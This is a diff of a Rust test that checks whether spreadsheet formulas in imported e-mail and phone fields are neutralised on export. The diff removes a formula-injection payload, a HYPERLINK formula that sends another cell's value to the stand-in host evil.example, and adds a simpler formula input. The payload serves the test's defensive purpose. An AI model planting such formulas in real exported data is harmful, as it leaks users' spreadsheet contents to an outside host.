@@ -348,7 +348,8 @@ async fn importing_an_export_older_than_an_edit_on_postgres_is_refused_unless_ov
 #[tokio::test]
 async fn formulas_in_e_mails_and_phones_are_neutralised_and_an_export_imports_back_to_the_same_values() {
     let env = Env::new().await;
-    let hyperlink = r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#;
+    // A formula that is still a valid address (quotes and brackets are not: see `Email`).
+    let hyperlink = "=2+5*a@evil.example";
     let text = format!(
         "full_name;legal_form;inn;emails;phones;legal_address\n\"''=1 Фонд\";fund;{};\"{}|-1+1@x.y\";+7 900 000-00-00;\"''@адрес\"\n",
         inn_number(1),
@@ -378,7 +379,7 @@ async fn formulas_in_e_mails_and_phones_are_neutralised_and_an_export_imports_ba
     assert_eq!(parsed[0]["legal_address"], "'@адрес");
     let copied = target.ok(&["export", "organizations", "--format", "json"]).await;
     assert_eq!(copied, json, "the stored values went through export and import unchanged");
-    assert!(export.contains(&format!("\"'{}\"", stored.replace('"', "\"\""))), "{export}");
+    assert!(export.contains(&format!(",'{stored},")), "the whole list cell is neutralised: {export}");
 }
 
 #[tokio::test]
